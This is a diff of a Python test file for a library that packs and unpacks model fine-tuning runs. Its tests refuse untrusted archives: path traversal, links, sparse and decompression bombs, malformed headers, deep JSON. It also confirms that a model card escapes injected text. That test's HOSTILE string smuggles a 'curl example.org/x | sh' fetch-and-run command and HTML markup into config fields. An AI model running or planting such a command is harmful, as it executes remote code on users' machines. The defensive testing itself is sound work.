@@ -6,10 +6,14 @@ import gzip
 import hashlib
 import io
 import json
+import re
+import shlex
 import shutil
 import sys
 import tarfile
+import tracemalloc
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
 import yaml
@@ -20,6 +24,7 @@ from lezo_ds.errors import UserError
 from lezo_ds.journal import Journal, read_journal
 from lezo_ds.model.snapshots import read_manifest, snapshot_path
 from lezo_ds.runs import packing
+from lezo_ds.runs.model_card import model_card
 from lezo_ds.runs.packing import pack_run, recorded_digests, unpack_run
 from lezo_ds.runs.restore import read_run
 from lezo_ds.zo.records import StepRecord
@@ -68,12 +73,11 @@ def write_archive(file, contents):
     """Write an archive; values are contents, or whole members."""
     with tarfile.open(file, "w:gz") as archive:
         for name, content in contents.items():
-            if isinstance(content, tarfile.TarInfo):
-                archive.addfile(content)
-                continue
-            member = tarfile.TarInfo(name)
-            member.size = len(content)
-            archive.addfile(member, io.BytesIO(content))
+            member = content
+            if isinstance(content, bytes):
+                member = tarfile.TarInfo(name)
+                member.size = len(content)
+            archive.addfile(member, io.BytesIO(content if isinstance(content, bytes) else b""))
     return file
 
 
@@ -110,12 +114,11 @@ def test_the_same_run_gives_the_same_bytes_whenever_and_wherever_it_lies(finishe
 
 
 @pytest.mark.distributed
-@pytest.mark.parametrize("num_ranks", [1, 2])
-def test_base_model_and_pack_give_the_tuned_model_bit_for_bit(num_ranks, finished, packed, recipe, tmp_path):
+def test_base_model_and_pack_give_the_tuned_model_bit_for_bit(finished, packed, recipe, tmp_path):
     base = tmp_path / "base"
     shutil.copytree(recipe.parent / "model", base)
     target = tmp_path / "model"
-    command = export(num_ranks, "--pack", packed, "--step", "last", "--out", target, f"model.path={base}")
+    command = export(2, "--pack", packed, "--step", "last", "--out", target, f"model.path={base}")
     done = run_well(command)
     assert "as the run had them" in done.err
     exported, snapshot = read_manifest(target), read_manifest(snapshot_path(finished / "snapshots", 8))
@@ -123,16 +126,6 @@ def test_base_model_and_pack_give_the_tuned_model_bit_for_bit(num_ranks, finishe
     weights = "model-00001.safetensors"
     assert exported["files"][weights] == snapshot["files"][weights]
     assert sorted(path.name for path in tmp_path.iterdir()) == ["base", "model"]
-
-
-@pytest.mark.distributed
-def test_a_pack_made_on_two_ranks_in_groups_is_exported_on_one(recipe, tmp_path):
-    made_on_two = (f"run_dir={tmp_path / 'run'}", "train.steps=2", "partition_size=2")
-    run_well(deepspeed(2, "--config", recipe, *made_on_two))
-    pack_run(tmp_path / "run", tmp_path / "run.tar.gz")
-    done = run_well(export(1, "--pack", tmp_path / "run.tar.gz", "--out", tmp_path / "model"))
-    results = json.loads((tmp_path / "run" / "results.json").read_text())
-    assert f"weights {results['weights_digest']}, as the run had them" in done.err
 
 
 @pytest.mark.distributed
@@ -172,17 +165,14 @@ def test_a_pack_whose_steps_were_changed_does_not_pass_for_the_run(packed, recip
 
 
 @pytest.mark.distributed
-@pytest.mark.parametrize("dtype", ["fp32", "bf16"])
-def test_a_prefix_starts_from_the_values_in_the_pack(dtype, recipe, tmp_path):
-    peft = ("peft.kind=prefix", "zo.perturbation_scale=0.1", "zo.learning_rate=0.01", f"model.dtype={dtype}")
+def test_a_prefix_starts_from_the_values_in_the_pack(recipe, tmp_path):
+    peft = ("peft.kind=prefix", "zo.perturbation_scale=0.1", "zo.learning_rate=0.01", *BF16)
     run_well(python("--config", recipe, f"run_dir={tmp_path / 'run'}", "train.steps=4", *peft))
     pack_run(tmp_path / "run", tmp_path / "run.tar.gz")
     first = {name for name in members(tmp_path / "run.tar.gz") if name.startswith("snapshots/")}
     assert "snapshots/step-00000000/prefix.safetensors" in first
-    assert any("low_bits/" in name for name in first) == (dtype == "bf16")
-    done = run_well(
-        export(1, "--pack", tmp_path / "run.tar.gz", "--step", "last", "--out", tmp_path / "prefix")
-    )
+    assert any("low_bits/" in name for name in first)
+    done = run_well(export(1, "--pack", tmp_path / "run.tar.gz", "--out", tmp_path / "prefix"))
     assert "as the run had them" in done.err
     assert (tmp_path / "prefix" / "prefix.safetensors").is_file()
     assert not list((tmp_path / "prefix").glob("model*"))
@@ -226,6 +216,7 @@ def test_an_unfinished_run_is_packed_as_far_as_it_went(finished, tmp_path):
     (tmp_path / "run" / "results.json").unlink()
     shutil.rmtree(tmp_path / "run" / "snapshots")
     pack_run(tmp_path / "run", tmp_path / "run.tar.gz")
+    (tmp_path / "unpacked").mkdir()
     pack = unpack_run(tmp_path / "run.tar.gz", tmp_path / "unpacked")
     assert pack.digests == {}
     assert read_run(tmp_path / "unpacked").num_steps == 8
@@ -242,20 +233,19 @@ def test_hashes_of_another_models_snapshots_are_not_taken(finished, tmp_path):
 
 
 @pytest.mark.distributed
-def test_a_run_whose_state_is_no_journal_is_not_packed(recipe, tmp_path):
-    run_well(
-        python("--config", recipe, f"run_dir={tmp_path / 'run'}", "method=zero_shot"),
-    )
-    with pytest.raises(UserError, match=r"cannot be packed; got: method zero_shot"):
-        pack_run(tmp_path / "run", tmp_path / "run.tar.gz")
+def test_what_cannot_be_packed_is_refused(finished, tmp_path):
+    with pytest.raises(UserError, match="cannot write"):
+        pack_run(finished, tmp_path / "none" / "run.tar.gz")
     with pytest.raises(UserError, match="is not the directory of a run"):
+        pack_run(tmp_path, tmp_path / "run.tar.gz")
+    header, _ = read_journal(finished / "journal.jsonl")
+    scored = replace(header, config=header.config | {"method": "zero_shot"})
+    Journal.create(tmp_path / "journal.jsonl", scored).close()
+    with pytest.raises(UserError, match=r"cannot be packed; got: method zero_shot"):
         pack_run(tmp_path, tmp_path / "run.tar.gz")
 
 
-@pytest.mark.distributed
-def test_a_pack_that_cannot_be_written_is_an_error_of_one_line(finished, tmp_path):
-    with pytest.raises(UserError, match="cannot write"):
-        pack_run(finished, tmp_path / "none" / "run.tar.gz")
+# Packs that nobody should trust
 
 
 @pytest.mark.distributed
@@ -266,58 +256,43 @@ def test_a_pack_that_cannot_be_written_is_an_error_of_one_line(finished, tmp_pat
         "/outside",
         "snapshots/step-00000000/../../outside",
         "snapshots/step-00000000/model.safetensors",
-        "other.txt",
-        "./config.yaml",
     ],
 )
 def test_a_name_that_no_run_writes_is_refused_and_nothing_is_written(name, packed, tmp_path):
     bad = write_archive(tmp_path / "bad.tar.gz", with_hashes(members(packed) | {name: b"text"}))
-    with pytest.raises(UserError, match=r"is not a pack that can be used; got: .* in it"):
-        unpack_run(bad, tmp_path / "folder" / "out")
-    assert [path.name for path in tmp_path.iterdir()] == ["bad.tar.gz"]
-
-
-@pytest.mark.distributed
-@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE, tarfile.DIRTYPE])
-def test_only_plain_files_are_taken(kind, packed, tmp_path):
-    link = tarfile.TarInfo("results.json")
-    link.type, link.linkname = kind, "/etc/hostname"
-    contents = {name: content for name, content in members(packed).items() if name != "results.json"}
-    bad = write_archive(tmp_path / "bad.tar.gz", with_hashes(contents) | {"results.json": link})
-    with pytest.raises(UserError, match=r"'results.json' in it"):
+    (tmp_path / "out").mkdir()
+    with pytest.raises(UserError, match=r"is not a pack that can be used; got: .*(outside| in it)"):
         unpack_run(bad, tmp_path / "out")
+    assert sorted(path.name for path in tmp_path.rglob("*")) == ["bad.tar.gz", "out"]
+
+
+def sparse(size):
+    """Return a member of one byte that says it has `size` of them: the rest is a hole."""
+    member = tarfile.TarInfo("results.json")
+    member.pax_headers = {"GNU.sparse.map": "0,1", "GNU.sparse.size": str(size)}
+    return member
+
+
+def of_kind(kind):
+    member = tarfile.TarInfo("results.json")
+    member.type, member.linkname = kind, "config.yaml"
+    return member
 
 
 @pytest.mark.distributed
-def test_what_is_damaged_missing_or_none_at_all_is_refused(packed, tmp_path):
-    contents = members(packed)
-    whole = packed.read_bytes()
-    middle = len(whole) // 2
-    files = {
-        "cut": whole[:middle],
-        "flipped": whole[:middle] + bytes([whole[middle] ^ 1]) + whole[middle + 1 :],
-        "text": b"text",
-        "empty": b"",
-        "gzip": gzip.compress(b"text" * 1000),
-    }
-    for name, data in files.items():
-        (tmp_path / name).write_bytes(data)
-    changed = contents | {"config.yaml": contents["config.yaml"] + b"\n"}
-    write_archive(tmp_path / "changed", changed)
-    write_archive(tmp_path / "bare", {n: c for n, c in contents.items() if n != "pack.json"})
-    write_archive(
-        tmp_path / "partial", with_hashes({n: c for n, c in contents.items() if n != "journal.jsonl"})
-    )
-    manifest = json.loads(contents["pack.json"])
-    write_archive(
-        tmp_path / "newer",
-        contents | {"pack.json": json.dumps(manifest | {"format_version": 2}).encode()},
-    )
-    names = [*files, "changed", "bare", "partial", "newer", "absent"]
-    for name in names:
-        with pytest.raises(UserError, match="is not a pack that can be used"):
-            unpack_run(tmp_path / name, tmp_path / "out")
-    assert not (tmp_path / "out").exists()
+@pytest.mark.parametrize(
+    "member",
+    [sparse(4 << 30), *map(of_kind, (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE, tarfile.DIRTYPE))],
+    ids=["sparse", "symbolic link", "link", "pipe", "directory"],
+)
+def test_only_plain_files_are_taken(member, packed, tmp_path):
+    contents = {name: content for name, content in members(packed).items() if name != "results.json"}
+    bad = write_archive(tmp_path / "bad.tar.gz", with_hashes(contents) | {"results.json": member})
+    tracemalloc.start()
+    with pytest.raises(UserError, match=r"'results.json' (is a special file|in it)"):
+        unpack_run(bad, tmp_path)
+    assert tracemalloc.get_traced_memory()[1] < 16 << 20
+    tracemalloc.stop()
 
 
 @pytest.mark.distributed
@@ -326,4 +301,69 @@ def test_a_small_file_that_would_become_a_huge_one_is_refused(packed, tmp_path, 
     bad = write_archive(tmp_path / "bad.tar.gz", members(packed) | {"results.json": bytes(1 << 20)})
     assert bad.stat().st_size < 1 << 14
     with pytest.raises(UserError, match="more than 65536 bytes"):
-        unpack_run(bad, tmp_path / "out")
+        unpack_run(bad, tmp_path)
+
+
+def headers_without_end():
+    """Return an archive of nothing but extended headers, each of which announces the next."""
+    header = tarfile.TarInfo("long")
+    header.type, header.size = tarfile.GNUTYPE_LONGNAME, 0
+    return gzip.compress(header.tobuf(tarfile.GNU_FORMAT) * 5000)
+
+
+@pytest.mark.distributed
+def test_what_is_damaged_malformed_or_missing_is_refused_in_one_line(packed, tmp_path):
+    contents, whole = members(packed), packed.read_bytes()
+    middle = len(whole) // 2
+    files = {
+        "cut": whole[:middle],
+        "flipped": whole[:middle] + bytes([whole[middle] ^ 1]) + whole[middle + 1 :],
+        "text": b"text",
+        "empty": b"",
+        "gzip": gzip.compress(b"text" * 1000),
+        "headers": headers_without_end(),
+    }
+    for name, data in files.items():
+        (tmp_path / name).write_bytes(data)
+    manifest, deep = json.loads(contents["pack.json"]), b"[" * 100_000
+    archives = {
+        "changed": contents | {"config.yaml": contents["config.yaml"] + b"\n"},
+        "bare": {name: content for name, content in contents.items() if name != "pack.json"},
+        "partial": with_hashes({n: c for n, c in contents.items() if n != "journal.jsonl"}),
+        "newer": contents | {"pack.json": json.dumps(manifest | {"format_version": 2}).encode()},
+        "types": contents | {"pack.json": json.dumps(manifest | {"digests": [1]}).encode()},
+        "list": contents | {"pack.json": b"[]"},
+        "deep": contents | {"pack.json": deep},
+        "deep inside": with_hashes(contents | {"environment.json": deep}),
+    }
+    for name, members_of in archives.items():
+        write_archive(tmp_path / name, members_of)
+    for name in (*files, *archives, "absent"):
+        with pytest.raises(UserError, match="is not a pack that can be used"):
+            unpack_run(tmp_path / name, tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+
+HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"
+
+
+@pytest.mark.distributed
+def test_no_text_of_a_pack_becomes_a_command_or_markup_in_the_model_card(finished, tmp_path):
+    shutil.copytree(finished, tmp_path / "run")
+    run = read_run(tmp_path / "run", ())
+    environment = json.loads((tmp_path / "run" / "environment.json").read_text())
+    environment |= {"world_size": HOSTILE, "platform": HOSTILE, "hardware": {"gpu": HOSTILE}}
+    environment["versions"] = {HOSTILE: HOSTILE}
+    (tmp_path / "run" / "environment.json").write_text(json.dumps(environment))
+    config = run.config
+    model, data = replace(config.model, path=HOSTILE), replace(config.data, path=HOSTILE)
+    train = replace(config.train, objective=HOSTILE)
+    spoilt = replace(run, config=replace(config, model=model, data=data, train=train))
+    text = model_card(spoilt, 8, "digest")
+    _, head, body = text.split("---\n", 2)
+    assert yaml.safe_load(head)["base_model"] == Path(HOSTILE).name
+    (_, recipe), (_, command) = re.findall(r"^(`{4,})\w+\n(.*?)\n\1$", body, re.MULTILINE | re.DOTALL)
+    assert yaml.safe_load(recipe)["train"]["objective"] == HOSTILE
+    assert shlex.split(command)[:3] == ["deepspeed", "--num_gpus", HOSTILE]
+    outside = body.replace(recipe, "").replace(command, "")
+    assert not re.search(r"\]\(http://|<img|; curl .* \| sh", outside)
